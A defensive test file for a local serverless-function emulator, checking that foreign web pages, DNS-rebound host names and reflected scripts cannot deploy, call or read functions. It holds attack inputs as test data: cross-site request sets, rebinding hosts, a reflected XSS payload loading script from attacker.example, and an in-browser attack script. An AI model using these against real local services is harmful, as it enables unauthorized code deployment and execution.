/** A page of somebody else's, open in the developer's browser while the emulator runs: what it can send, and that nothing comes of it. */
import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { fileURLToPath } from 'node:url'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { createEmulator, type Config, type Emulator } from '../../emulator/index.ts'
import type { LogEvent } from '../../emulator/model/log.ts'
import { openBrowser } from '../dashboard/browser.ts'
import { openRecorder } from '../../emulator/cases/cloud-recorder.ts'
import { createFolder } from '../support/project.ts'
import { ask, exchangeBytes, readAnswer, type RawAnswer } from './wire.ts'

const token = 'token-of-the-pages'
const shop = 'https://shop.example'
const developers = 'http://localhost:5173'
const config: Config = {
  actions: {
    hello: { module: { main: ({ name = 'you' }: { name?: string }) => ({ hello: name }) } },
    page: { type: 'web', module: { main: () => ({ body: 'for everybody' }) } },
    keyed: { type: 'web', requireWhiskAuth: true, module: { main: () => ({ body: 'for callers with a key' }) } },
    // Repeat what they are given, as functions do whose authors did not think of it.
    mirror: { type: 'web', module: { main: ({ name = '' }: { name?: string }) => ({ body: `<h1>Hello, ${name}!</h1>` }) } },
    script: {
      type: 'web',
      module: {
        main: ({ code = '' }: { code?: string }) => ({
          headers: { 'content-type': 'application/javascript', 'service-worker-allowed': '/' },
          body: code,
        }),
      },
    },
  },
  triggers: {
    hello: { type: 'apigw', product: 'shop', api: 'hooks', stage: 'v1', resource: '/hello', methods: ['POST'], action: 'hello' },
    signed: {
      type: 'apigw',
      product: 'shop',
      api: 'hooks',
      stage: 'v1',
      resource: '/signed',
      methods: ['POST'],
      action: 'hello',
      auth: 'IAM',
    },
    keyed: {
      type: 'apigw',
      product: 'shop',
      api: 'hooks',
      stage: 'v1',
      resource: '/keyed',
      methods: ['POST'],
      action: 'hello',
      apiKey: true,
    },
  },
  server: { allowedOrigins: [shop, developers] },
}

let emulator: Emulator
let port: number
let deployed: string[]
const logged: LogEvent[] = []

beforeAll(async () => {
  emulator = await createEmulator({
    token,
    watch: false,
    isolation: 'inline',
    log: { emit: (event) => void logged.push(event) },
    ...config,
  })
  ;({ port } = await emulator.listen({ port: 0 }))
  deployed = emulator.actions()
})
beforeEach(() => {
  emulator.activations.clear()
  logged.length = 0
})
afterAll(() => emulator.close())

const code = JSON.stringify({ exec: { kind: 'nodejs:default', code: 'function main() { return { owned: true } }' } })
const adminCall = JSON.stringify({ action: 'functions.invokeFunction', function_name: 'hello', request_data: '{}' })
/** What a page can send: without asking first, or after a preflight. `type` undefined: `fetch` of a text. */
const calls = [
  { what: 'deploys over the OpenWhisk API', method: 'PUT', target: '/api/v1/namespaces/_/actions/evil?overwrite=true', body: code },
  { what: 'replaces over the OpenWhisk API', method: 'PUT', target: '/api/v1/namespaces/_/actions/hello?overwrite=true', body: code },
  { what: 'deletes over the OpenWhisk API', method: 'DELETE', target: '/api/v1/namespaces/_/actions/hello', body: '' },
  { what: 'calls over the OpenWhisk API', method: 'POST', target: '/api/v1/namespaces/_/actions/hello?blocking=true', body: '{}' },
  { what: 'makes a trigger', method: 'PUT', target: '/api/v1/namespaces/_/triggers/evil', body: '{}' },
  { what: 'reads what ran', method: 'GET', target: '/api/v1/namespaces/_/activations', body: '' },
  { what: 'deploys over the API of NAVER', method: 'PUT', target: '/ncf/api/v2/packages/-/actions/evil', body: code },
  { what: 'calls over the API of NAVER', method: 'POST', target: '/ncf/api/v2/packages/-/actions/hello', body: '{}' },
  { what: 'calls a trigger that asks for a signature', method: 'POST', target: '/apigw/shop/hooks/v1/signed', body: '{}' },
  { what: 'calls a trigger that asks for an API key', method: 'POST', target: '/apigw/shop/hooks/v1/keyed', body: '{}' },
  { what: 'calls a web action that asks for a key', method: 'POST', target: '/api/v1/web/guest/default/keyed', body: '{}' },
  { what: 'calls as a server of CloudBase', method: 'POST', target: '/admin', body: adminCall },
] as const

const browserHeaders = (origin: string, type: string): Record<string, string> => ({
  host: `127.0.0.1:${port}`,
  origin,
  'content-type': type,
  'sec-fetch-site': 'cross-site',
})

describe.each([
  'http://attacker.example',
  'https://localhost.attacker.example',
  'http://127.0.0.1.attacker.example:80',
  'null',
  'file://',
  'chrome-extension://abc',
  // This machine's, which nobody named.
  'http://localhost:8080',
  'http://127.0.0.1:8080',
  'http://app.localhost',
  'http://shop.example',
  'https://shop.example:8443',
  'our own origin',
])('a page of %s', (page) => {
  test.each(calls)('$what in vain', async ({ method, target, body }) => {
    const origin = page === 'our own origin' ? `http://127.0.0.1:${port}` : page
    for (const type of ['text/plain', 'application/json', 'application/x-www-form-urlencoded']) {
      const { status } = await ask(port, { method, target, body, headers: browserHeaders(origin, type) })
      expect(status, type).toBe(403)
    }
    expect(emulator.activations.list()).toEqual([])
    expect(emulator.actions()).toEqual(deployed)
    expect(logged.filter(({ event }) => event === 'refused')).toHaveLength(3)
    expect(JSON.stringify(logged[0])).toContain('server.allowedOrigins')
  })
})

const ownCalls = calls.filter(({ what }) => what.startsWith('calls over'))

test.each([developers, shop])('a page of %s, which was named, may call', async (origin) => {
  for (const { method, target, body } of ownCalls) {
    const { status } = await ask(port, { method, target, body, headers: browserHeaders(origin, 'application/json') })
    expect(status, target).toBe(200)
    // Unless the browser says that the page came from where it calls: what is served there are functions.
    const headers = { ...browserHeaders(origin, 'application/json'), 'sec-fetch-site': 'same-origin' }
    expect((await ask(port, { method, target, body, headers })).status, target).toBe(403)
  }
})

test('a browser may call that has the token, and one that has another may not', async () => {
  for (const { method, target, body } of ownCalls) {
    const headers = browserHeaders('http://localhost:8080', 'application/json')
    expect((await ask(port, { method, target, body, headers: { ...headers, authorization: `Bearer ${token}` } })).status, target).toBe(200)
    expect((await ask(port, { method, target, body, headers: { ...headers, authorization: `Bearer ${token}x` } })).status, target).toBe(403)
  }
})

test('a program may call', async () => {
  for (const { method, target, body, what } of calls.filter((call) => call.what.startsWith('calls') && !call.what.includes('web action'))) {
    const headers = { host: `127.0.0.1:${port}`, 'content-type': 'application/json', 'sec-fetch-mode': 'cors' }
    expect((await ask(port, { method, target, body, headers })).status, what).toBeLessThan(300)
  }
})

test('its own name cannot be named, whatever the configuration says', async () => {
  const own = 'http://app.example:3233'
  await using emulating = await createEmulator({
    ...config,
    watch: false,
    server: { allowedHosts: ['app.example'], allowedOrigins: [own] },
  })
  const headers = { origin: own, host: 'app.example:3233', 'content-type': 'application/json' }
  const send = (more: object): Promise<Response> =>
    emulating.request('/api/v1/namespaces/_/actions/hello?blocking=true', { method: 'POST', body: '{}', headers: { ...headers, ...more } })
  expect((await send({})).status).toBe(403)
  expect((await send({ host: 'localhost:3233' })).status).toBe(200)
})

test('what the clouds open to the pages of everybody stays open: web actions, what stands behind the gateway, CloudBase functions', async () => {
  const headers = browserHeaders('http://attacker.example', 'application/json')
  expect(await ask(port, { target: '/api/v1/web/guest/default/page', headers })).toMatchObject({ status: 200, body: 'for everybody' })
  expect((await ask(port, { method: 'POST', target: '/apigw/shop/hooks/v1/hello', headers, body: '{}' })).status).toBe(202)
  expect((await ask(port, { method: 'POST', target: '/v1/functions/hello', headers, body: '{}' })).status).toBe(200)
})

test('with credentials configured it is they that decide, not the page', async () => {
  const auth = 'user-of-whisk:key-of-whisk'
  const options = {
    ...config,
    openwhisk: { auth },
    tcb: { auth: { enforce: true, tokens: { 'token-of-a-user': { role: 'administrator' } } } },
  }
  await using strict = await createEmulator({ watch: false, isolation: 'inline', ...options })
  const origin = 'http://attacker.example'
  const send = (target: string, authorization: string): Promise<Response> =>
    strict.request(target, { method: 'POST', headers: { origin, authorization, 'content-type': 'application/json' }, body: '{}' })
  expect((await send('/api/v1/namespaces/_/actions/hello?blocking=true', `Basic ${btoa(auth)}`)).status).toBe(200)
  expect((await send('/api/v1/namespaces/_/actions/hello?blocking=true', `Basic ${btoa('a:b')}`)).status).toBe(401)
  expect((await send('/v1/functions/hello', 'Bearer token-of-a-user')).status).toBe(200)
  expect((await send('/v1/functions/hello', 'Bearer guessed')).status).toBe(401)
})

test('no page of another site opens a WebSocket', async () => {
  for (const target of ['/v1/functions/hello/?webfn=true', '/_/api/v1/events', '/_/']) {
    const upgrade =
      'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n'
    const text = `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nOrigin: http://attacker.example\r\n${upgrade}\r\n`
    expect(readAnswer(await exchangeBytes(port, text)).status, target).toBe(404)
  }
})

describe.each([
  'attacker.example',
  'localhost.attacker.example',
  '127.0.0.1.attacker.example',
  '2130706433',
  '0x7f.1',
  'localhost.',
  '0',
  '[::]x',
])('a name that was bound again, %s,', (host) => {
  test.each([
    '/_/',
    '/_/health',
    '/api/v1/web/guest/default/page',
    '/api/v1/namespaces',
    '/ncf/api/v2/packages',
    '/v1/functions/hello',
    '/apigw/shop/hooks/v1/hello',
    '/nothing',
  ])('reaches nothing at %s', async (target) => {
    const answer = await ask(port, { target, headers: { host: `${host}:${port}` } })
    expect(answer.status).toBeGreaterThanOrEqual(400)
    expect(answer.status).toBeLessThan(500)
    expect(answer.body).not.toMatch(/for everybody|guest|status|hello":/)
    expect(answer.head.filter((line) => line.toLowerCase().startsWith('set-cookie'))).toEqual([])
  })
})

test('nothing passes the recorder, which signs with the developer’s keys, for a page of another site', async () => {
  const { root } = createFolder({})
  const secrets = { ncp: { accessKey: 'AK', secretKey: 'key-of-the-cloud' }, openwhisk: 'user:key-of-the-cloud' }
  await using recorder = await openRecorder({ target: new URL(`http://127.0.0.1:${port}`), secrets, file: `${root}/cases.json` })
  const at = Number(new URL(recorder.url).port)
  const send = (headers: Record<string, string>, method = 'POST'): Promise<RawAnswer> =>
    ask(at, { method, target: '/api/v1/namespaces/_/actions/hello?blocking=true', headers, body: method === 'GET' ? '' : '{}' })
  const own = { host: `127.0.0.1:${at}`, 'content-type': 'application/json' }
  expect((await send({ ...own, origin: 'http://attacker.example' })).status).toBe(403)
  expect((await send({ ...own, origin: 'null' })).status).toBe(403)
  expect((await send({ ...own, 'sec-fetch-site': 'cross-site' }, 'GET')).status).toBe(403)
  expect((await send({ host: `attacker.example:${at}` })).status).toBe(403)
  expect(readAnswer(await exchangeBytes(at, 'GET / HTTP/1.1\r\nHost: localhost\r\nHost: a\r\nConnection: close\r\n\r\n')).status).toBe(400)
  expect(emulator.activations.list()).toEqual([])
  expect((await send(own)).status).toBe(200)
  // Not even for the developer's own pages is anything signed: any of them may hold a stranger's script. What needs no signature passes.
  expect((await send({ ...own, origin: 'http://localhost:5173' })).status).toBe(403)
  expect((await send({ ...own, 'sec-fetch-site': 'same-origin' }, 'GET')).status).toBe(403)
  const page = { target: '/api/v1/web/guest/default/page', headers: { ...own, origin: 'http://localhost:5173' } }
  expect((await ask(at, page)).status).toBe(200)
  expect((await send({ host: 'cloudfunctions.apigw.ntruss.com' })).status).not.toBe(403)
})

test('the example of this repository shows what it was sent as text', async () => {
  const root = fileURLToPath(new URL('../../', import.meta.url))
  await using example = await createEmulator({ root, watch: false, isolation: 'inline' })
  const sent = '<script src="//attacker.example"></script>\'&amp;'
  const page = await (await example.request(`/api/v1/web/guest/default/page?name=${encodeURIComponent(sent)}`)).text()
  expect(page).not.toMatch(/<(?!\/?h1>)|["']|&(?!#)/)
  expect(page.replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)))).toBe(`<h1>Hello, ${sent}!</h1>`)
})

test('what a page only loads, such as an image, comes from nothing that credentials would protect, whether or not that says its address', async () => {
  const headers = { host: `127.0.0.1:${port}`, 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' }
  for (const referer of [undefined, 'http://attacker.example/localhost', 'http://localhost.attacker.example/'])
    for (const { target } of calls) {
      const { status } = await ask(port, { target, headers: { ...headers, ...(referer === undefined ? {} : { referer }) } })
      // Where there is nothing to get, the cloud says so.
      expect(status === 403 || target.startsWith('/apigw/'), target).toBe(true)
      expect(status, target).toBeGreaterThanOrEqual(400)
    }
  expect(emulator.activations.list()).toEqual([])
  const own = { ...headers, referer: `${developers}/shop` }
  expect((await ask(port, { target: '/api/v1/namespaces/_/actions', headers: own })).status).toBe(200)
  // Typed, or followed from a page of the same machine or of our own.
  for (const site of ['none', 'same-site', 'same-origin'])
    expect(
      (await ask(port, { target: '/api/v1/namespaces/_/actions', headers: { ...headers, 'sec-fetch-site': site } })).status,
      site,
    ).toBe(403)
})

describe('in Chromium', () => {
  let browser: Browser | undefined
  let attacker: Server
  let foreign: string
  /** What the script of a stranger knows of this emulator. */
  let facts: string

  beforeAll(async () => {
    browser = await openBrowser(['--host-resolver-rules=MAP attacker.example 127.0.0.1'])
    const script = readFileSync(new URL('../dashboard/foreign/reflected.js', import.meta.url))
    attacker = createServer(({ url = '/' }, response) => {
      const { pathname, searchParams } = new URL(url, 'http://attacker.example')
      const to = searchParams.get('to')
      if (to !== null) response.writeHead(302, { location: to }).end()
      else if (pathname === '/facts') response.writeHead(200, { 'access-control-allow-origin': '*' }).end(facts)
      else if (pathname === '/reflected.js')
        response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end(script)
      else response.setHeader('content-type', 'text/html').end('<!doctype html><title>page</title>')
    })
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
    foreign = String((attacker.address() as AddressInfo).port)
  }, 120_000)
  afterAll(async () => {
    await browser?.close()
    attacker.close()
  })

  /** Runs in the page: every call as `fetch` with and without a preflight; then an image, a script, a form and a socket. */
  const attack = `async ({ base, calls }) => {
    const outcome = async (promise) => promise.then(async (r) => r.type === 'opaque' ? 'sent' : r.status + ' ' + await r.text(), () => 'refused')
    const results = []
    for (const { method, target, body } of calls) {
      const init = { method, ...(body ? { body } : {}) }
      results.push(await outcome(fetch(base + target, { ...init, headers: { 'content-type': 'application/json' } })))
      if (method === 'POST' || method === 'GET') results.push(await outcome(fetch(base + target, { ...init, mode: 'no-cors' })))
    }
    const element = (tag, props) => new Promise((resolve) => {
      document.documentElement.append(Object.assign(document.createElement(tag), props, { onload: () => resolve('loaded'), onerror: () => resolve('refused') }))
    })
    results.push(await element('script', { src: base + '/_/api/v1/functions' }))
    results.push(await element('img', { src: base + '/_/health' }))
    const form = Object.assign(document.createElement('form'), { method: 'post', action: base + calls[3].target, target: 'sink', enctype: 'text/plain' })
    const sink = Object.assign(document.createElement('iframe'), { name: 'sink' })
    document.documentElement.append(sink, form)
    form.submit()
    await new Promise((resolve) => { sink.onload = resolve })
    return results
  }`

  test('a page of another site runs nothing and reads nothing, though each of its calls arrives', async ({ skip }) => {
    if (!browser) return skip()
    const page = await browser.newPage()
    await page.goto(`http://attacker.example:${foreign}/`)
    const results = (await page.evaluate(`(${attack})(${JSON.stringify({ base: `http://127.0.0.1:${port}`, calls })})`)) as string[]
    await page.close()
    expect(results.filter((result) => !['refused', 'sent'].includes(result))).toEqual([])
    expect(results).toContain('sent')
    expect(emulator.activations.list()).toEqual([])
    expect(emulator.actions()).toEqual(deployed)
  })

  test(
    'a script that a function repeats runs nothing else and reads nothing, though it has our origin and the dashboard was open',
    {
      timeout: 90_000,
    },
    async ({ skip }) => {
      if (!browser) return skip()
      const context = await browser.newContext()
      const dashboard = await context.newPage()
      const dashboardOrigin = `http://dashboard.localhost:${port}`
      await dashboard.goto(`http://127.0.0.1:${port}/_/`)
      const changes = {
        'reads functions': { method: 'GET', target: '/_/api/v1/functions' },
        'reads what ran': { method: 'GET', target: '/_/api/v1/activations' },
        reloads: { method: 'POST', target: '/_/api/v1/reload', body: '{}' },
        'forgets what ran': { method: 'DELETE', target: '/_/api/v1/activations', body: '{}' },
        'breaks the gateway': { method: 'PUT', target: '/_/api/v1/gateway/hello/fault', body: '{"code":"410"}' },
        'calls through the dashboard': {
          method: 'POST',
          target: '/_/api/v1/invoke',
          body: '{"method":"GET","target":"/api/v1/namespaces"}',
        },
      }
      const attempts = { ...Object.fromEntries(calls.map(({ what, ...call }) => [what, call])), ...changes }
      // One origin is that of the script, the other ones are further names of the same port.
      for (const host of ['127.0.0.1', 'localhost']) {
        const at = [`http://${host}:${port}`, `http://${host === 'localhost' ? '127.0.0.1' : 'localhost'}:${port}`, dashboardOrigin]
        facts = JSON.stringify({ at, calls: attempts, port })
        const script = `<script type="module" src="http://attacker.example:${foreign}/reflected.js"></script>`
        const page = await context.newPage()
        const reflecting = `http://${host}:${port}/api/v1/web/guest/default/mirror?name=${encodeURIComponent(script)}`
        await page.goto(`http://attacker.example:${foreign}/?to=${encodeURIComponent(reflecting)}`)
        await page.waitForFunction('document.title !== ""', undefined, { timeout: 30_000 })
        expect(new URL(page.url()).host).toBe(`${host}:${port}`)
        const results = JSON.parse(await page.title()) as Record<string, string>
        expect(Object.keys(results).length).toBeGreaterThan(60)
        expect(Object.entries(results).filter(([, result]) => result !== 'refused')).toEqual([])
        // Each window with the dashboard holds one of the six connections that a browser opens to a host.
        for (const other of context.pages()) if (other !== dashboard) await other.close()
      }
      expect(new Set(emulator.activations.list().map(({ path }) => path))).toEqual(new Set(['mirror', 'script']))
      expect(emulator.actions()).toEqual(deployed)
      // The dashboard itself goes on: it reads and changes, whatever cookies it was tossed.
      const own = `(async () => {
      const change = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }
      return [(await fetch('/_/api/v1/functions')).status, (await fetch('/_/api/v1/reload', change)).status]
    })()`
      expect(new URL(dashboard.url()).origin).toBe(dashboardOrigin)
      expect(await dashboard.evaluate(own)).toEqual([200, 200])
      await context.close()
    },
  )

  test('a name that was bound again shows nothing', async ({ skip }) => {
    if (!browser) return skip()
    const page = await browser.newPage()
    for (const path of ['/_/', '/api/v1/web/guest/default/page', '/v1/functions/hello']) {
      const answer = await page.goto(`http://attacker.example:${port}${path}`)
      expect(answer?.status(), path).toBeGreaterThanOrEqual(400)
      expect(await answer?.text(), path).not.toMatch(/for everybody|functions\/hello/)
    }
    await page.close()
  })
})
